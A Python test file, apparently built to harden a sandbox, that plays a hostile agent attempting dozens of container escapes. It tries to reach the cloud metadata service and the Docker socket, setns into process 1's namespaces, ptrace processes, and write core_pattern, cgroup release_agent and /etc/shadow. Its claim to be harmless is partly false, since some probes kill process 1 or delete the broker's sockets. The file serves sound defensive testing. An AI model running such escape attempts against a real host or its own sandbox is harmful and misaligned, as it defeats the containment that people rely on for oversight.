"""A hostile agent. It tries to get out of the container it runs in, and reports each try in one line.

Each line is `PROBE <json>`: group, name, what was tried, whether it got something that it must not have,
and what happened. Nothing here does damage where it gets through: files are opened and not written,
calls are made with arguments that the kernel refuses after its permission checks.

Arguments: groups to run (default: all). Standard library only.
"""

import ctypes
import errno
import json
import os
import platform
import signal
import socket
import struct
import subprocess
import sys

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.syscall.restype = ctypes.c_long
ARM = platform.machine() == "aarch64"
# Numbers on x86-64 and on arm64; None: that machine does not have it.
NUMBERS = {
    "acct": (163, 89), "add_key": (248, 217), "adjtimex": (159, 171), "bpf": (321, 280), "chroot": (161, 51),
    "clock_settime": (227, 112), "clone": (56, 220), "clone3": (435, 435), "fanotify_init": (300, 262),
    "finit_module": (313, 273), "fsopen": (430, 430), "init_module": (175, 105), "io_uring_setup": (425, 425),
    "io_uring_register": (427, 427), "ioperm": (173, None), "iopl": (172, None), "kcmp": (312, 272),
    "kexec_load": (246, 104), "keyctl": (250, 219), "lookup_dcookie": (212, 18), "mbind": (237, 235),
    "migrate_pages": (256, 238), "modify_ldt": (154, None), "mount": (165, 40), "mount_setattr": (442, 442),
    "move_mount": (429, 429), "move_pages": (279, 239), "name_to_handle_at": (303, 264),
    "open_by_handle_at": (304, 265), "open_tree": (428, 428), "perf_event_open": (298, 241),
    "personality": (135, 92), "pidfd_getfd": (438, 438), "pidfd_open": (434, 434), "pivot_root": (155, 41),
    "process_vm_readv": (310, 270), "process_vm_writev": (311, 271), "ptrace": (101, 117),
    "quotactl": (179, 60), "reboot": (169, 142), "request_key": (249, 218), "set_mempolicy": (238, 237),
    "setdomainname": (171, 162), "sethostname": (170, 161), "setns": (308, 268), "settimeofday": (164, 170),
    "swapon": (167, 224), "swapoff": (168, 225), "syslog": (103, 116), "umount2": (166, 39),
    "unshare": (272, 97), "userfaultfd": (323, 282), "vhangup": (153, 58), "capset": (126, 91),
}
GROUPS = {}


class Blocked(Exception):
    pass


def group(name):
    def take(function):
        GROUPS[name] = function
        return function
    return take


def report(group_name, name, tried, got, what):
    line = {"group": group_name, "name": name, "tried": tried, "got": bool(got), "what": str(what)[:160]}
    # A leading line break: output of a child may have left the line open.
    sys.stdout.write("\nPROBE " + json.dumps(line) + "\n")
    sys.stdout.flush()


def late(_number, _frame):
    raise TimeoutError("no answer in time")


def probe(group_name, name, tried, action, seconds=8):
    """`action` gives what it got, or nothing; any exception means that it got nothing."""
    only = os.environ.get("PROBE_ONLY")
    if only and name not in only.split(","):
        return
    signal.signal(signal.SIGALRM, late)
    signal.alarm(seconds)
    try:
        got = action()
        report(group_name, name, tried, got is not None and got is not False, got or "nothing")
    except BaseException as error:  # also SystemExit: a probe must never end the others
        report(group_name, name, tried, False, f"{type(error).__name__}: {error}")
    finally:
        signal.alarm(0)


def call(name, *arguments):
    """A system call; gives (result, errno)."""
    number = NUMBERS[name][1 if ARM else 0]
    if number is None:
        raise Blocked("this machine has no such call")
    words = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    ctypes.set_errno(0)
    result = LIBC.syscall(ctypes.c_long(number), *words)
    return result, ctypes.get_errno()


def must(name, *arguments):
    """A system call that counts as got only when it worked."""
    result, error = call(name, *arguments)
    if result < 0:
        raise OSError(error, os.strerror(error))
    return f"{name} gave {result}"


def answered_by_kernel(name, *arguments):
    """A system call that must not even reach the kernel's own checks of its arguments."""
    result, error = call(name, *arguments)
    if result >= 0:
        return f"{name} gave {result}"
    if error in (errno.EPERM, errno.ENOSYS, errno.EACCES):
        raise OSError(error, os.strerror(error))
    return f"{name} reached the kernel: {errno.errorcode.get(error, error)}"


def in_child(action):
    """In a process of its own; gives what it got."""
    reads, writes = os.pipe()
    child = os.fork()
    if child == 0:
        os.close(reads)
        try:
            got = action()
            os.write(writes, str(got or "").encode()[:200])
        except BaseException:
            pass
        os._exit(0)
    os.close(writes)
    try:
        text = os.read(reads, 300).decode(errors="replace")
    finally:
        os.close(reads)
        _, status = os.waitpid(child, 0)
    if not text:
        raise Blocked(f"the child got nothing (status {status})")
    return text


def opened(path, flags):
    fd = os.open(path, flags | os.O_CLOEXEC | os.O_NONBLOCK)
    os.close(fd)
    return f"opened {path}"


# ------------------------------------------------------------------ network

@group("family")
def families():
    for name, family, kind, protocol in [
        ("raw IPv4", 2, 3, 1), ("raw IPv4 of any protocol", 2, 3, 255), ("raw IPv6", 10, 3, 58),
        ("PACKET raw", 17, 3, 0x0300), ("PACKET datagram", 17, 2, 0x0300),
        ("NETLINK audit", 16, 3, 9), ("NETLINK netfilter", 16, 3, 12), ("NETLINK generic", 16, 3, 16),
        ("NETLINK connector", 16, 3, 11), ("NETLINK xfrm", 16, 3, 6), ("NETLINK sock_diag", 16, 3, 4),
        ("NETLINK uevent", 16, 3, 15), ("NETLINK crypto", 16, 3, 21), ("NETLINK rdma", 16, 3, 20),
        ("NETLINK scsi", 16, 3, 18), ("NETLINK selinux", 16, 3, 7),
        ("VSOCK stream", 40, 1, 0), ("VSOCK datagram", 40, 2, 0), ("ALG", 38, 5, 0),
        ("BLUETOOTH l2cap", 31, 5, 0), ("BLUETOOTH hci", 31, 3, 1), ("CAN", 29, 3, 1), ("TIPC", 30, 4, 0),
        ("KCM", 41, 5, 0), ("QIPCRTR", 42, 2, 0), ("SMC", 43, 1, 0), ("XDP", 44, 3, 0), ("RDS", 21, 5, 0),
        ("AX25", 3, 5, 0), ("IPX", 4, 2, 0), ("APPLETALK", 5, 2, 0), ("X25", 9, 5, 0), ("ATMPVC", 8, 2, 0),
        ("ATMSVC", 20, 2, 0), ("NFC", 39, 5, 0), ("IEEE802154", 36, 2, 0), ("PPPOX", 24, 1, 0),
        ("LLC", 26, 2, 0), ("KEY", 15, 3, 2), ("RXRPC", 33, 2, 2), ("PHONET", 35, 2, 0), ("MCTP", 45, 2, 0),
        ("IB", 27, 3, 0), ("CAIF", 37, 5, 0), ("MPTCP", 2, 1, 262), ("SCTP", 2, 1, 132), ("DCCP", 2, 6, 33),
    ]:
        def make(family=family, kind=kind, protocol=protocol):
            made = socket.socket(family, kind, protocol)
            try:
                if family == 2 and kind in (1, 6):
                    # A stream without a route is harmless: only a connection counts.
                    made.settimeout(2)
                    made.connect(("1.1.1.1", 443))
                return f"socket {made.fileno()}"
            finally:
                made.close()
        probe("family", name, f"socket({family}, {kind}, {protocol})", make)


def connects(address, port, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_STREAM) as made:
        made.settimeout(3)
        made.connect((address, port))
        return f"connected to {address}:{port}"


def sends(address, port, family=socket.AF_INET, option=None):
    with socket.socket(family, socket.SOCK_DGRAM) as made:
        if option:
            made.setsockopt(*option)
        return f"sent {made.sendto(b'x', (address, port))} byte"


@group("reach")
def reach():
    for address, port in [
        ("1.1.1.1", 443), ("8.8.8.8", 53), ("172.17.0.1", 2375), ("172.17.0.1", 22), ("10.0.0.1", 443),
        ("192.168.0.1", 80), ("100.64.0.1", 80), ("169.254.169.254", 80), ("169.254.170.2", 80),
        ("127.0.0.1", 2375), ("127.0.0.1", 22), ("127.0.0.1", 5432), ("127.0.0.1", 6379), ("127.0.0.1", 8080),
        ("0.0.0.0", 5432), ("127.1.2.3", 6379),
    ]:
        probe("reach", f"tcp {address}:{port}", "connect", lambda a=address, p=port: connects(a, p))
    # A server that listens on the host's loopback address while this runs.
    if "PROBE_HOST_PORT" in os.environ:
        probe("reach", "a port of the host", "connect to the host's loopback",
              lambda: connects("127.0.0.1", int(os.environ["PROBE_HOST_PORT"])))
    for address in ["2606:4700:4700::1111", "::ffff:1.1.1.1", "64:ff9b::101:101", "fd00:ec2::254", "fe80::1%lo"]:
        probe("reach", f"tcp [{address}]:443", "connect", lambda a=address: connects(a, 443, socket.AF_INET6))
    for address, option in [
        ("8.8.8.8", None), ("224.0.0.251", None),
        ("255.255.255.255", (socket.SOL_SOCKET, socket.SO_BROADCAST, 1)),
    ]:
        probe("reach", f"udp {address}:53", "send", lambda a=address, o=option: sends(a, 53, option=o))
    probe("reach", "udp [ff02::1]:5353", "send", lambda: sends("ff02::1", 5353, socket.AF_INET6))
    probe("reach", "interfaces", "names of interfaces besides lo",
          lambda: ",".join(n for _, n in socket.if_nameindex() if n != "lo") or None)


@group("dns")
def names():
    for name in ["github.com", "api.anthropic.com", "host.docker.internal", "metadata.google.internal",
                 "gateway.docker.internal", "kubernetes.default.svc"]:
        probe("dns", name, "getaddrinfo", lambda n=name: socket.getaddrinfo(n, 443)[0][4][0])
    question = b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x06github\x03com\0\0\x01\0\x01"

    def ask(server):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
            made.settimeout(2)
            made.sendto(question, (server, 53))
            return f"{len(made.recv(512))} bytes of answer"
    for server in ["127.0.0.11", "127.0.0.53", "9.9.9.9"]:
        probe("dns", f"server {server}", "a question by UDP", lambda s=server: ask(s))


SOCKET_PATHS = """/var/run/docker.sock /run/docker.sock /run/docker/containerd/containerd.sock
/run/containerd/containerd.sock /run/containerd/debug.sock /run/podman/podman.sock /run/crio/crio.sock
/run/buildkit/buildkitd.sock /run/dbus/system_bus_socket /run/systemd/private /run/systemd/notify
/run/systemd/journal/socket /run/systemd/journal/dev-log /dev/log /run/udev/control /run/user/0/bus
/run/user/1000/bus /run/user/1000/docker.sock /run/snapd.socket /run/lxd.socket /var/snap/lxd/common/lxd/unix.socket
/run/libvirt/libvirt-sock /run/nscd/socket /run/cups/cups.sock /run/acpid.socket /run/avahi-daemon/socket
/tmp/.X11-unix/X0 /run/postgresql/.s.PGSQL.5432 /var/run/postgresql/.s.PGSQL.5432 /run/redis/redis.sock
/run/mysqld/mysqld.sock /run/zeblit/gate.sock /run/zeblit/broker.sock /run/k3s/containerd/containerd.sock
/run/dockershim.sock /run/ssh-agent.socket""".split()


@group("socket")
def sockets():
    def connect(path):
        with socket.socket(socket.AF_UNIX) as made:
            made.settimeout(3)
            made.connect(path)
            return f"connected to {path}"
    for path in SOCKET_PATHS:
        probe("socket", path, "connect", lambda p=path: connect(p))
    for name in ["\0/tmp/dbus-session", "\0/tmp/.X11-unix/X0", "\0containerd-shim", "\0/org/kernel/linux/storage/multipathd",
                 "\0snap", "\0ISCSIADM_ABSTRACT_NAMESPACE"]:
        probe("socket", "@" + name[1:], "connect to the abstract name", lambda p=name: connect(p))
    if "PROBE_HOST_NAME" in os.environ:
        probe("socket", "an abstract name of the host", "connect",
              lambda: connect("\0" + os.environ["PROBE_HOST_NAME"]))
    if "PROBE_HOST_SOCKET" in os.environ:
        probe("socket", "a socket file of the host", "connect", lambda: connect(os.environ["PROBE_HOST_SOCKET"]))
    probe("socket", "abstract names", "list of /proc/net/unix",
          lambda: ",".join(line.split()[-1] for line in open("/proc/net/unix") if "@" in line) or None)


# ------------------------------------------------------------------ the kernel's doors

@group("mount")
def mounts():
    os.makedirs("/tmp/m", exist_ok=True)
    b = ctypes.c_char_p
    for name, source, target, kind, flags, data in [
        ("tmpfs", b"none", b"/tmp/m", b"tmpfs", 0, None), ("proc", b"none", b"/tmp/m", b"proc", 0, None),
        ("sysfs", b"none", b"/tmp/m", b"sysfs", 0, None), ("cgroup v1", b"none", b"/tmp/m", b"cgroup", 0, b"memory"),
        ("cgroup v2", b"none", b"/tmp/m", b"cgroup2", 0, None), ("devpts", b"none", b"/tmp/m", b"devpts", 0, None),
        ("bind of /", b"/", b"/tmp/m", None, 4096, None), ("remount / writable", None, b"/", None, 32 | 4096, None),
        ("remount the workspace with suid", None, b"/zeblit/workspace", None, 32 | 4096, None),
        ("remount the objects writable", None, b"/zeblit/objects", None, 32 | 4096, None),
        ("make / shared", None, b"/", None, 1 << 20, None),
        ("overlay", b"none", b"/tmp/m", b"overlay", 0, b"lowerdir=/etc,upperdir=/tmp,workdir=/tmp"),
        ("a host disk", b"/dev/vda", b"/tmp/m", b"ext4", 1, None),
    ]:
        probe("mount", name, "mount", lambda s=source, t=target, k=kind, f=flags, d=data: must(
            "mount", b(s), b(t), b(k), f, b(d)))
    probe("mount", "umount /tmp", "umount2", lambda: must("umount2", b(b"/tmp"), 2))
    probe("mount", "umount the cover of /proc/kcore", "umount2", lambda: must("umount2", b(b"/proc/kcore"), 2))
    probe("mount", "pivot_root", "pivot_root", lambda: must("pivot_root", b(b"/tmp"), b(b"/tmp/m")))
    probe("mount", "chroot", "chroot", lambda: in_child(lambda: must("chroot", b(b"/tmp"))))
    probe("mount", "fsopen", "fsopen tmpfs", lambda: answered_by_kernel("fsopen", b(b"tmpfs"), 0))
    probe("mount", "open_tree", "a copy of /", lambda: answered_by_kernel("open_tree", -100, b(b"/"), 1))
    probe("mount", "move_mount", "from nowhere", lambda: answered_by_kernel("move_mount", -1, b(b""), -1, b(b""), 0))
    probe("mount", "mount_setattr", "on /", lambda: answered_by_kernel("mount_setattr", -100, b(b"/"), 0, None, 0))


@group("proc")
def kernel_files():
    write, read = os.O_WRONLY, os.O_RDONLY
    for path, flags in [
        ("/proc/sysrq-trigger", write), ("/proc/sys/kernel/core_pattern", write),
        ("/proc/sys/kernel/modprobe", write), ("/proc/sys/kernel/hotplug", write),
        ("/proc/sys/kernel/sysrq", write), ("/proc/sys/kernel/panic", write), ("/proc/sys/vm/panic_on_oom", write),
        ("/proc/sys/fs/binfmt_misc/register", write), ("/proc/sys/net/ipv4/ip_forward", write),
        ("/proc/sys/kernel/yama/ptrace_scope", write), ("/proc/sys/kernel/hostname", write),
        ("/proc/sys/kernel/unprivileged_userns_clone", write), ("/proc/sys/vm/overcommit_memory", write),
        ("/proc/1/mem", read), ("/proc/1/mem", write), ("/proc/1/environ", read), ("/proc/1/fd/1", write),
        ("/proc/1/fdinfo/0", read), ("/proc/1/maps", read), ("/proc/1/stack", read), ("/proc/1/syscall", read),
        ("/proc/1/root/etc/passwd", read), ("/proc/1/cwd/etc/passwd", read), ("/proc/1/map_files", read),
        ("/proc/1/uid_map", write), ("/proc/kpagecount", read), ("/proc/kpageflags", read),
        ("/proc/kmsg", read), ("/proc/vmallocinfo", read), ("/proc/slabinfo", read),
        ("/proc/irq/0/smp_affinity", write), ("/proc/mtrr", write), ("/proc/dynamic_debug/control", write),
        ("/sys/kernel/uevent_helper", write), ("/sys/power/state", write), ("/sys/power/disk", write),
        ("/sys/kernel/mm/transparent_hugepage/enabled", write), ("/sys/kernel/debug/sched/debug", read),
        ("/sys/kernel/tracing/trace", read), ("/sys/kernel/debug/tracing/trace", read),
        ("/sys/kernel/security/lsm", write), ("/sys/module/kernel/parameters/panic", write),
        ("/sys/class/net/lo/mtu", write), ("/sys/block/vda/queue/scheduler", write),
        ("/sys/bus/pci/rescan", write), ("/sys/firmware/efi/efivars", read), ("/sys/kernel/livepatch", write),
    ]:
        shown = "write" if flags == write else "read"
        # Opening writes nothing.
        probe("proc", f"{shown} {path}", "open", lambda p=path, f=flags: opened(p, f))
    for path in ["/proc/kcore", "/proc/keys", "/proc/timer_list", "/proc/sched_debug", "/proc/acpi/wakeup",
                 "/proc/scsi/scsi", "/proc/latency_stats"]:
        def bytes_of(path=path):
            with open(path, "rb") as file:
                data = file.read(4096)
            return f"{len(data)} bytes" if data else None
        probe("proc", f"read {path}", "read", bytes_of)

    def labels():
        with open("/proc/1/attr/exec", "w") as file:
            file.write("unconfined")
        return "wrote the label of process 1"
    probe("proc", "the security label of process 1", "write /proc/1/attr/exec", labels)

    def own_map(name, text):
        with open(f"/proc/self/{name}", "w") as file:
            file.write(text)
        return f"wrote {name}"
    probe("proc", "an own uid map", "write /proc/self/uid_map", lambda: own_map("uid_map", "0 0 1\n"))
    probe("proc", "an own gid map", "write /proc/self/gid_map", lambda: own_map("gid_map", "0 0 1\n"))

    def addresses():
        with open("/proc/kallsyms") as file:
            shown = [line for line in (file.readline() for _ in range(200)) if line and not line.startswith("0" * 16)]
        return f"addresses of the kernel: {shown[0].strip()}" if shown else None
    probe("proc", "kernel addresses", "/proc/kallsyms", addresses)

    def others():
        mine = {"zeblit-shim", "shim", "python3", "sh"}
        found = []
        for entry in filter(str.isdigit, os.listdir("/proc")):
            try:
                name = open(f"/proc/{entry}/comm").read().strip()
            except OSError:
                continue
            if name not in mine:
                found.append(name)
        return ",".join(found) or None
    probe("proc", "processes of the host", "/proc/*/comm", others)


NAMESPACES = [("mount", 0x20000), ("cgroup", 0x2000000), ("uts", 0x4000000), ("ipc", 0x8000000),
              ("user", 0x10000000), ("pid", 0x20000000), ("net", 0x40000000), ("time", 0x80)]


@group("namespace")
def namespaces():
    for name, flag in NAMESPACES:
        probe("namespace", f"unshare {name}", "unshare", lambda f=flag: in_child(lambda: must("unshare", f)))
    probe("namespace", "unshare user and all others", "unshare",
          lambda: in_child(lambda: must("unshare", 0x7E020000)))
    for name, flag in NAMESPACES[:-1]:
        def clone(flag=flag):
            # SIGCHLD, no stack: a fork with another name space.
            result, error = call("clone", flag | 17, 0, 0, 0, 0)
            if result == 0:
                os._exit(0)
            if result < 0:
                raise OSError(error, os.strerror(error))
            os.waitpid(result, 0)
            return f"a child with a {name} name space"
        probe("namespace", f"clone {name}", "clone", clone)

    def clone3(flags=0x10000000):
        arguments = struct.pack("=11Q", flags, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0)
        result, error = call("clone3", ctypes.c_char_p(arguments), len(arguments))
        if result == 0:
            os._exit(0)
        if result < 0:
            raise OSError(error, os.strerror(error))
        os.waitpid(result, 0)
        return "a child with a user name space"
    probe("namespace", "clone3 user", "clone3", clone3)
    for name in ["mnt", "net", "pid", "user", "ipc", "uts", "cgroup"]:
        def enter(name=name):
            fd = os.open(f"/proc/1/ns/{name}", os.O_RDONLY)
            return must("setns", fd, 0)
        probe("namespace", f"setns {name} of process 1", "setns", enter)
    probe("namespace", "setns with a wrong descriptor", "setns", lambda: answered_by_kernel("setns", -1, 0))


@group("trace")
def tracing():
    for name, request in [("attach", 16), ("seize", 0x4206)]:
        probe("trace", f"ptrace {name} to process 1", "ptrace", lambda r=request: must("ptrace", r, 1, 0, 0))
        probe("trace", f"ptrace {name} to the parent", "ptrace",
              lambda r=request: must("ptrace", r, os.getppid(), 0, 0))
    probe("trace", "ptrace traceme", "ptrace", lambda: in_child(lambda: must("ptrace", 0, 0, 0, 0)))
    buffer = ctypes.create_string_buffer(16)
    vector = struct.pack("=QQ", ctypes.addressof(buffer), 16)
    for name, pid in [("process 1", 1), ("itself", os.getpid())]:
        for verb in ["process_vm_readv", "process_vm_writev"]:
            probe("trace", f"{verb} of {name}", verb, lambda v=verb, p=pid: must(
                v, p, ctypes.c_char_p(vector), 1, ctypes.c_char_p(vector), 1, 0))

    def steal():
        result, error = call("pidfd_open", 1, 0)
        if result < 0:
            raise OSError(error, os.strerror(error))
        return must("pidfd_getfd", result, 1, 0)
    probe("trace", "a descriptor of process 1", "pidfd_getfd", steal)
    probe("trace", "kcmp with process 1", "kcmp", lambda: answered_by_kernel("kcmp", 1, os.getpid(), 0, 0, 0))

    def kill_one(number):
        os.kill(1, number)
        state = open("/proc/1/stat").read().rsplit(")", 1)[1].split()[0]
        return None if state in "SRD" else f"process 1 is in state {state}"
    for number in [signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM, signal.SIGSEGV, signal.SIGUSR1]:
        probe("trace", f"signal {number.name} to process 1", "kill", lambda n=number: kill_one(n))


@group("key")
def keys():
    b = ctypes.c_char_p
    probe("key", "add_key", "to the session", lambda: must("add_key", b(b"user"), b(b"zeblit"), b(b"x"), 1, -3))
    probe("key", "request_key", "of the user", lambda: answered_by_kernel("request_key", b(b"user"), b(b"zeblit"), None, 0))
    probe("key", "the session's keyring", "keyctl", lambda: must("keyctl", 0, -3, 0, 0, 0))
    probe("key", "join a session", "keyctl", lambda: must("keyctl", 1, b(b"zeblit"), 0, 0, 0))
    probe("key", "the user's persistent keyring", "keyctl", lambda: must("keyctl", 22, -1, -3, 0, 0))
    probe("key", "read a key by number", "keyctl", lambda: answered_by_kernel("keyctl", 11, 1, 0, 0, 0))


@group("cgroup")
def cgroups():
    top = "/sys/fs/cgroup"
    places = [top] + [os.path.join(top, name) for name in ("memory", "pids", "cpu", "devices", "rdma", "unified", "systemd")]
    for name in ["release_agent", "notify_on_release", "cgroup.procs", "tasks", "devices.allow", "memory.max",
                 "memory.limit_in_bytes", "pids.max", "cpu.max", "cpu.cfs_quota_us", "cgroup.subtree_control",
                 "cgroup.clone_children"]:
        def write(name=name):
            for place in places:
                try:
                    return opened(os.path.join(place, name), os.O_WRONLY)
                except OSError:
                    pass
            return None
        probe("cgroup", f"write {name}", "open in every hierarchy", write)

    def make():
        for place in places:
            try:
                os.mkdir(os.path.join(place, "zeblit-probe"))
                return f"made a group in {place}"
            except OSError:
                pass
        return None
    probe("cgroup", "a group of its own", "mkdir", make)


@group("device")
def devices():
    for path in """/dev/mem /dev/kmem /dev/port /dev/kmsg /dev/sda /dev/vda /dev/nvme0n1 /dev/xvda /dev/dm-0 /dev/loop0
/dev/loop-control /dev/kvm /dev/fuse /dev/net/tun /dev/vhost-net /dev/vhost-vsock /dev/vsock /dev/snapshot
/dev/cpu/0/msr /dev/uinput /dev/uhid /dev/ppp /dev/mapper/control /dev/vfio/vfio /dev/dri/card0 /dev/rtc0
/dev/userfaultfd /dev/udmabuf /dev/btrfs-control /dev/console /dev/tty0 /dev/input/event0""".split():
        probe("device", path, "open", lambda p=path: opened(p, os.O_RDONLY))
    for name, kind, major, minor in [
        ("the disk", 0o60000, 254, 0), ("a SCSI disk", 0o60000, 8, 0), ("a loop device", 0o60000, 7, 0),
        ("memory", 0o20000, 1, 1), ("kmsg", 0o20000, 1, 11), ("the tun device", 0o20000, 10, 200),
    ]:
        for folder in ["/tmp", "/zeblit/workspace"]:
            def make(kind=kind, major=major, minor=minor, folder=folder):
                path = f"{folder}/.device"
                os.mknod(path, kind | 0o600, os.makedev(major, minor))
                try:
                    return opened(path, os.O_RDONLY)
                finally:
                    os.unlink(path)
            probe("device", f"mknod of {name} in {folder}", "mknod and open", make)


@group("privilege")
def privileges():
    for name, action in [
        ("setuid(0)", lambda: os.setuid(0)), ("setgid(0)", lambda: os.setgid(0)),
        ("setgroups([0])", lambda: os.setgroups([0])), ("setresuid(0)", lambda: os.setresuid(0, 0, 0)),
        ("seteuid(0)", lambda: os.seteuid(0)), ("setuid(1)", lambda: os.setuid(1)),
    ]:
        probe("privilege", name, "the call", lambda a=action, n=name: in_child(lambda: (a(), n)[1]))
    for program in [["su", "-c", "id -u"], ["sudo", "-n", "id", "-u"], ["pkexec", "id", "-u"], ["newgrp", "root"],
                    ["passwd", "-d", "root"], ["mount", "-t", "tmpfs", "none", "/tmp"], ["chsh", "-s", "/bin/sh", "root"]]:
        def run(program=program):
            done = subprocess.run(program, capture_output=True, timeout=5, stdin=subprocess.DEVNULL)
            return done.stdout.decode().strip() if done.returncode == 0 else None
        probe("privilege", " ".join(program), "a program with the suid bit", run)

    def own_suid():
        copy = "/zeblit/workspace/.suid"
        with open("/usr/bin/id", "rb") as source, open(copy, "wb") as target:
            target.write(source.read())
        os.chmod(copy, 0o6755)
        try:
            shown = subprocess.run([copy, "-u"], capture_output=True, timeout=5).stdout.decode().strip()
            return "uid 0" if shown == "0" else None
        finally:
            os.unlink(copy)
    probe("privilege", "a suid program of its own", "chmod 6755 and run", own_suid)

    def capabilities():
        lines = dict(line.split(":", 1) for line in open("/proc/self/status") if line.startswith("Cap"))
        held = [name for name, mask in lines.items() if int(mask, 16)]
        return ",".join(held) or None
    probe("privilege", "capabilities", "/proc/self/status", capabilities)

    def raise_all():
        header = struct.pack("=Ii", 0x20080522, 0)
        data = struct.pack("=6I", *([0xFFFFFFFF] * 6))
        return must("capset", ctypes.c_char_p(header), ctypes.c_char_p(data))
    probe("privilege", "capset of everything", "capset", raise_all)

    def prctl(*arguments):
        result = LIBC.prctl(*[ctypes.c_ulong(a) for a in arguments])
        if result < 0:
            error = ctypes.get_errno()
            raise OSError(error, os.strerror(error))
        return f"prctl gave {result}"
    probe("privilege", "ambient capability", "prctl", lambda: prctl(47, 2, 21, 0, 0))
    probe("privilege", "new privileges again", "prctl(PR_SET_NO_NEW_PRIVS, 0)", lambda: prctl(38, 0, 0, 0, 0))
    probe("privilege", "securebits", "prctl", lambda: prctl(28, 1, 0, 0, 0))
    probe("privilege", "a seccomp filter of its own that allows all",
          "does mount work after it", lambda: must("mount", None, ctypes.c_char_p(b"/tmp"), None, 4096, None))
    probe("privilege", "file capabilities", "setxattr",
          lambda: os.setxattr("/zeblit/workspace", "security.capability", b"\1\0\0\2" + b"\xff" * 16) or "set")
    probe("privilege", "trusted attributes", "setxattr",
          lambda: os.setxattr("/zeblit/workspace", "trusted.overlay.opaque", b"y") or "set")
    probe("privilege", "chown to root", "chown", lambda: os.chown("/zeblit/workspace", 0, 0) or "changed")
    probe("privilege", "a better nice value", "nice", lambda: f"nice {os.nice(-5)}")
    probe("privilege", "real-time scheduling", "sched_setscheduler",
          lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(10)) or "real time")
    probe("privilege", "memory for ever", "mlockall", lambda: None if LIBC.mlockall(3) else "locked", 4)


@group("call")
def calls():
    zero = (0, 0, 0, 0, 0)
    for name, arguments in [
        ("bpf", zero), ("userfaultfd", (1 << 30,)), ("perf_event_open", (0, 0, -1, -1, 0)), ("io_uring_setup", (1, 0)),
        ("io_uring_register", (-1, 0, 0, 0)), ("open_by_handle_at", (-1, 0, 0)), ("init_module", (0, 0, 0)),
        ("finit_module", (-1, 0, 0)), ("kexec_load", (0, -1, 0, 0)), ("reboot", zero), ("swapon", (0, 0)),
        ("swapoff", (0,)), ("acct", (1,)), ("syslog", (10, 0, 0)), ("quotactl", (0, 0, 0, 0)),
        ("settimeofday", (1, 1)), ("clock_settime", (0, 1)), ("adjtimex", (1,)), ("sethostname", (1, 1)),
        ("setdomainname", (1, 1)), ("iopl", (3,)), ("ioperm", (0, 1, 1)), ("modify_ldt", (0, 1, 8)),
        ("lookup_dcookie", (0, 0, 0)), ("move_pages", (0, 1, 1, 0, 1, 0)), ("migrate_pages", (0, 1, 1, 1)),
        ("mbind", (0, 0, 99, 0, 0, 0)), ("set_mempolicy", (99, 0, 0)), ("fanotify_init", (0, 0)), ("vhangup", ()),
        ("personality", (0x0400000,)), ("personality", (0x0100000,)),
    ]:
        shown = f"{name}{arguments if name == 'personality' else ''}"
        probe("call", shown, "must be refused before the kernel looks at it",
              lambda n=name, a=arguments: in_child(lambda: answered_by_kernel(n, *a)))

    def machine_code(code):
        def run():
            import mmap
            page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
            page.write(code)
            address = ctypes.addressof(ctypes.c_char.from_buffer(page))
            got = ctypes.CFUNCTYPE(ctypes.c_int)(address)()
            return f"process {got}" if got > 0 else None
        return in_child(run)
    if not ARM:
        # mov eax, 20 (getpid on i386); int 0x80; ret
        probe("call", "the 32-bit door", "int 0x80", lambda: machine_code(b"\xb8\x14\0\0\0\xcd\x80\xc3"))
        # mov eax, 0x40000027 (getpid on x32); syscall; ret
        probe("call", "the x32 door", "syscall with bit 30", lambda: machine_code(b"\xb8\x27\0\0\x40\x0f\x05\xc3"))


@group("file")
def files():
    make = os.O_WRONLY | os.O_CREAT
    for path in ["/zeblit-probe", "/etc/zeblit-probe", "/usr/bin/zeblit-probe", "/root/zeblit-probe", "/var/tmp/zeblit-probe",
                 "/run/zeblit-probe", "/opt/zeblit-probe", "/zeblit/zeblit-probe", "/zeblit/objects/zeblit-probe",
                 "/zeblit/sockets/zeblit-probe", "/dev/zeblit-probe"]:
        probe("file", f"make {path}", "open", lambda p=path: opened(p, make))
    for path in ["/etc/passwd", "/etc/shadow", "/etc/ld.so.preload", "/zeblit/shim", "/usr/bin/git", "/etc/hosts", "/etc/resolv.conf",
                 "/etc/hostname"]:
        probe("file", f"write {path}", "open", lambda p=path: opened(p, os.O_WRONLY))
    probe("file", "read /etc/shadow", "open", lambda: opened("/etc/shadow", os.O_RDONLY))
    probe("file", "write the shim through its link", "/proc/1/exe", lambda: opened("/proc/1/exe", os.O_WRONLY))

    def reopen():
        fd = os.open("/zeblit/shim", os.O_RDONLY)
        return opened(f"/proc/self/fd/{fd}", os.O_WRONLY)
    probe("file", "reopen the shim for writing", "/proc/self/fd", reopen)
    for name in ["broker.sock", "gate.sock", "probe.sock"]:
        probe("file", f"remove {name}", "unlink", lambda n=name: os.unlink(f"/zeblit/sockets/{n}") or "removed")
    probe("file", "a socket beside the broker's", "bind",
          lambda: socket.socket(socket.AF_UNIX).bind("/zeblit/sockets/other.sock") or "bound")
    probe("file", "names in the sockets folder", "list", lambda: ",".join(os.listdir("/zeblit/sockets")) or None)
    probe("file", "the folder above the objects", "list", lambda: opened("/zeblit/objects/../config", os.O_RDONLY))

    def link_objects():
        for folder, _, names in os.walk("/zeblit/objects"):
            for name in names:
                os.link(os.path.join(folder, name), "/zeblit/workspace/.linked")
                os.unlink("/zeblit/workspace/.linked")
                return "a second name for an object of the mirror"
        return None
    probe("file", "a hard link to a mirror's object", "link", link_objects)

    def change_object():
        for folder, _, names in os.walk("/zeblit/objects"):
            for name in names:
                os.chmod(os.path.join(folder, name), 0o666)
                return "changed the mode of an object of the mirror"
        return None
    probe("file", "the mode of a mirror's object", "chmod", change_object)

    def by_handle():
        handle = struct.pack("=Ii", 8, 1) + struct.pack("=II", 2, 0)
        return answered_by_kernel("open_by_handle_at", -100, ctypes.c_char_p(handle), 0)
    probe("file", "the host's root by its handle", "open_by_handle_at", by_handle)
    for name in ["../other-run", "../../sockets"]:
        probe("file", f"another run's socket at {name}", "connect", lambda n=name: socket.socket(
